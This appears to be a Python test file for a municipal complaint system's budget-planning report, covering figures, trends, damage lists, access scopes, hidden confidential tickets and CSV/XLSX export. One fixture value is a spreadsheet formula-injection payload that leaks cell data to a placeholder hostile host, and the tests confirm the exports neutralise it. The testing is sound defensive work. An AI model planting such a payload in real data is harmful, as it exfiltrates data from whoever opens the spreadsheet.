"""The budget-planning report (issue 12, item 9) through HTTP: figures from the monthly summary
against a hand-computed fixture over two years, the trend in %, the live lists of open heavy damage
and of tickets waiting for the budget, the CSV and XLSX files (formulas neutralised), health and
confidential tickets counted but never listed, who may see it, and a bad year refused."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from suite.database import utcnow
from tests.helpers import (
    citizen_client,
    gen_staff,
    login_staff,
    lorong_fields,
    set_ticket,
    staff_client,
    submit,
    ticket_code_from,
)

TLANAKAN, PADEMAWU = "35.28.01.2001", "35.28.02.1018"  # Dabuan (Tlanakan), Barurambat Timur (Pademawu)
FORMULA_ROAD = '=HYPERLINK("http://jahat.example/?"&B2,"Lihat")'


def _at(year: int, month: int, day: int = 10) -> datetime:
    return datetime(year, month, day, 3, 0, tzinfo=UTC)


def _report(app, citizen, module: str, fields: dict, created: datetime, **values) -> str:
    response = submit(citizen, module, fields)
    assert response.status_code == 302, response.get_data(as_text=True)
    code = ticket_code_from(response)
    set_ticket(app, code, created_at=created, updated_at=utcnow(), **values)
    return code


def _road(app, citizen, created, desa=TLANAKAN, **values):
    fields = lorong_fields(not_duplicate="y", desa_code=desa, description=f"Jalan rusak {created:%Y%m%d} {desa}.")
    for name in ("category", "severity", "road_name"):
        if name in values:
            fields[name] = values.pop(name)
    return _report(app, citizen, "lorong", fields, created, **values)


def _waste(app, citizen, created):
    fields = {"category": "waste", "description": f"Sampah menumpuk {created:%Y%m%d}.", "desa_code": TLANAKAN}
    return _report(app, citizen, "madul", fields, created)


@pytest.fixture
def world(app, runner):
    """2025: one road (Tlanakan), two waste complaints. 2026: two roads (Tlanakan, one with a formula
    for its road name), a drain (Pademawu), a waste complaint, a confidential road report and a
    health complaint. The 2026 roads are heavy damage except the drain ("sedang")."""
    citizen = citizen_client(app)
    codes = {
        "road_2025": _road(app, citizen, _at(2025, 2)),
        "waste_2025_a": _waste(app, citizen, _at(2025, 3)),
        "waste_2025_b": _waste(app, citizen, _at(2025, 4)),
        "road_a": _road(app, citizen, _at(2026, 1)),
        "road_formula": _road(app, citizen, _at(2026, 5), road_name=FORMULA_ROAD),
        "drain": _road(app, citizen, _at(2026, 6), desa=PADEMAWU, category="drainase", severity="sedang"),
        "waste": _waste(app, citizen, _at(2026, 7)),
        "secret_road": _road(app, citizen, _at(2026, 8), visibility="confidential"),
        "health": _report(
            app,
            citizen,
            "sehat",
            {"category": "bpjs_card", "description": "Kartu BPJS saya tidak aktif padahal PBI.", "desa_code": TLANAKAN},
            _at(2026, 9),
        ),
    }
    result = runner.invoke(args=["stats-refresh", "--full"])
    assert result.exit_code == 0, result.output
    return codes


def _csv(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _section(rows, key):
    return [row[1:] for row in rows if row and row[0] == key]


def test_figures_and_trend_match_the_hand_computed_fixture(app, world):
    admin = staff_client(app, None, "admin")
    rows = _csv(admin, "/petugas/laporan-anggaran.csv?tahun=2026")
    assert rows[0][0] == "bagian"
    kecamatan = _section(rows, "kecamatan")
    # Tlanakan 2026: 2 roads, 1 waste, 2 not itemised (the confidential road, the health complaint): 5.
    assert kecamatan == [
        ["Pademawu", "e-Lorong", "Saluran air / drainase", "1", "100.0"],
        ["Tlanakan", "e-Lorong", "Jalan rusak", "2", "40.0"],
        ["Tlanakan", "e-Madul", "Sampah dan lingkungan", "1", "20.0"],
        ["Tlanakan", "", "Tidak dirinci (rahasia atau kesehatan)", "2", "40.0"],
    ]
    agencies = {(row[0], row[2]): (row[3], row[4]) for row in _section(rows, "instansi")}
    assert agencies[("Dinas Pekerjaan Umum dan Penataan Ruang", "Jalan rusak")] == ("2", "50.0")
    assert agencies[("Dinas Pekerjaan Umum dan Penataan Ruang", "Saluran air / drainase")] == ("1", "25.0")
    assert agencies[("Dinas Lingkungan Hidup", "Sampah dan lingkungan")] == ("1", "100.0")
    trend = {(row[0], row[1]): row[2:] for row in _section(rows, "tren") if len(row) > 2}
    assert sum(row[0] == "bagian" for row in rows) == 6  # every section starts with its own header row
    assert trend[("e-Lorong", "Jalan rusak")] == ["1", "2", "100.0"]
    assert trend[("e-Lorong", "Saluran air / drainase")] == ["0", "1", ""]  # nothing the year before
    assert trend[("e-Madul", "Sampah dan lingkungan")] == ["2", "1", "-50.0"]
    assert trend[("e-Lorong", "Tidak dirinci (rahasia atau kesehatan)")] == ["0", "1", ""]
    assert trend[("Jumlah", "")] == ["3", "6", "100.0"]
    # The year before reads the same summary: 2025 against 2024.
    before = _csv(admin, "/petugas/laporan-anggaran.csv?tahun=2025&tabel=tren")
    assert before[0] == ["Layanan", "Kategori", "2024", "2025", "Perubahan (%)"]
    assert before[-2] == ["Jumlah", "", "0", "3", ""]


def test_lists_show_open_heavy_damage_and_waiting_for_budget_but_no_health_or_secret_ticket(app, world):
    set_ticket(app, world["road_2025"], status="awaiting_budget", budget_year=2027)
    set_ticket(app, world["drain"], status="awaiting_budget", budget_year=2028)
    set_ticket(app, world["health"], status="awaiting_budget", budget_year=2027)
    set_ticket(app, world["road_a"], latitude=-7.2012345, longitude=113.4456789, anonymous=False)
    command = staff_client(app, None, "supervisor")
    rows = _csv(command, "/petugas/laporan-anggaran.csv?tahun=2026")
    heavy = _section(rows, "rusak-berat")
    # Open and "berat", oldest first (the 2025 road waits for the budget and is still open); the
    # confidential one is counted apart; the drain is "sedang".
    assert [row[0] for row in heavy[:3]] == [world["road_2025"], world["road_a"], world["road_formula"]]
    road_a = heavy[1]
    assert road_a[3:8] == ["Dabuan", "Tlanakan", "Jl. Raya Tlanakan", "-7.201", "113.446"]  # the published point
    assert heavy[3] == ["1 tiket rahasia atau kesehatan dihitung tetapi tidak dirinci."]
    assert int(road_a[11]) == (utcnow() - _at(2026, 1)).days
    years = _section(rows, "anggaran-per-tahun")
    assert years == [["2027", "2", "1"], ["2028", "1", "0"]]
    waiting = _section(rows, "menunggu-anggaran")
    assert [row[:2] for row in waiting[:2]] == [["2027", world["road_2025"]], ["2028", world["drain"]]]
    assert waiting[2] == ["1 tiket rahasia atau kesehatan dihitung tetapi tidak dirinci."]
    page = command.get("/petugas/laporan-anggaran?tahun=2026").get_data(as_text=True)
    assert f'<a href="/petugas/tiket/{world["road_a"]}">{world["road_a"]}</a>' in page
    xlsx = command.get("/petugas/laporan-anggaran.xlsx?tahun=2026").data
    for output in (page, "\n".join(",".join(r) for r in rows), _xlsx_text(xlsx)):
        assert world["road_a"] in output
        for hidden in (world["health"], world["secret_road"], "Masalah kartu BPJS Kesehatan"):
            assert hidden not in output
    # A resolved road leaves the list at once: the list is live, not from the summary.
    set_ticket(app, world["road_a"], status="resolved")
    rows = _csv(command, "/petugas/laporan-anggaran.csv?tahun=2026&tabel=rusak-berat")
    assert world["road_a"] not in [row[0] for row in rows] and world["road_formula"] in [row[0] for row in rows]


def test_long_lists_say_how_many_more_there_are(app, world):
    admin = staff_client(app, None, "admin")
    app.config["BUDGET_REPORT_LIST_LIMIT"] = 1
    try:
        rows = _csv(admin, "/petugas/laporan-anggaran.csv?tahun=2026&tabel=rusak-berat")
    finally:
        del app.config["BUDGET_REPORT_LIST_LIMIT"]
    assert rows[1][0] == world["road_2025"]
    assert ["Ditampilkan 1 dari 3 tiket; 2 tiket lainnya tidak ditampilkan."] in rows


def test_the_xlsx_has_a_sheet_per_table_and_stores_formulas_as_text(app, world):
    admin = staff_client(app, None, "admin")
    response = admin.get("/petugas/laporan-anggaran.xlsx?tahun=2026")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "Kecamatan",
        "Instansi",
        "Tren",
        "Rusak berat",
        "Anggaran per tahun",
        "Menunggu anggaran",
    ]
    cells = [cell for row in book["Rusak berat"].iter_rows() for cell in row if cell.value is not None]
    road = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert road.value == "'" + FORMULA_ROAD and road.data_type == "s"
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    tlanakan = [[c.value for c in row] for row in book["Kecamatan"].iter_rows(min_row=3) if row[0].value == "Tlanakan"]
    assert ["Tlanakan", "e-Lorong", "Jalan rusak", 2, 40.0] in tlanakan  # numbers stay numbers
    # The CSV neutralises it too.
    rows = _csv(admin, "/petugas/laporan-anggaran.csv?tahun=2026&tabel=rusak-berat")
    assert "'" + FORMULA_ROAD in [row[5] for row in rows[1:] if len(row) > 5]


def test_the_page_prints_every_section_and_an_agency_supervisor_sees_only_their_tree(app, world):
    supervisor = staff_client(app, "pupr", "supervisor")
    response = supervisor.get("/petugas/laporan-anggaran?tahun=2026")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert page.count('class="budget-section"') == 6
    assert "Laporan perencanaan anggaran 2026" in page and "Dinas Pekerjaan Umum dan Penataan Ruang" in page
    rows = _csv(supervisor, "/petugas/laporan-anggaran.csv?tahun=2026")
    assert not [row for row in rows if "Sampah dan lingkungan" in row]  # DLH's, not PUPR's
    assert {row[0] for row in _section(rows, "instansi")} == {"Dinas Pekerjaan Umum dan Penataan Ruang"}
    assert ["Jumlah", "", "1", "4", "300.0"] in _section(rows, "tren")
    # The whole regency for regency-wide staff: DLH's waste complaints are there.
    command = staff_client(app, None, "supervisor")
    assert "Sampah dan lingkungan" in command.get("/petugas/laporan-anggaran?tahun=2026").get_data(as_text=True)
    # A supervisor scoped to e-Madul sees its tickets only: no road in the figures or the lists.
    _, email = gen_staff(app, None, "supervisor", modules=["madul"])
    madul = app.test_client()
    login_staff(madul, email)
    rows = _csv(madul, "/petugas/laporan-anggaran.csv?tahun=2026")
    assert not [row for row in rows if "e-Lorong" in row or world["road_a"] in row]
    assert ["Jumlah", "", "2", "1", "-50.0"] in _section(rows, "tren")


def test_officers_are_refused(app, world):
    officer = staff_client(app, "pupr")
    for url in ("/petugas/laporan-anggaran", "/petugas/laporan-anggaran.csv", "/petugas/laporan-anggaran.xlsx"):
        assert officer.get(url).status_code == 403
    assert "laporan-anggaran" not in officer.get("/petugas/").get_data(as_text=True)


@pytest.mark.parametrize("year", ["abc", "1999", "2999", "20266", "２０２６", "-2026"])
def test_a_bad_year_is_refused_with_a_clear_message(app, year):
    admin = staff_client(app, None, "admin")
    response = admin.get("/petugas/laporan-anggaran", query_string={"tahun": year})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    this_year = datetime.now(UTC).year
    assert f"Tahun harus berupa angka empat digit antara 2000 dan {this_year}." in page
    assert f'value="{year}"' in page  # what was typed is kept to correct
    for suffix in (".csv", ".xlsx"):
        response = admin.get(f"/petugas/laporan-anggaran{suffix}", query_string={"tahun": year})
        assert response.status_code == 400 and "Tahun harus berupa angka" in response.get_data(as_text=True)
    response = admin.get("/petugas/laporan-anggaran.csv?tahun=2026&tabel=semua")
    assert response.status_code == 400 and "Tabel tidak dikenal" in response.get_data(as_text=True)


def test_the_report_defaults_to_this_year(app):
    admin = staff_client(app, None, "admin")
    page = admin.get("/petugas/laporan-anggaran").get_data(as_text=True)
    assert f"Laporan perencanaan anggaran {datetime.now(UTC).year}" in page


def _xlsx_text(data: bytes) -> str:
    book = load_workbook(io.BytesIO(data))
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value)
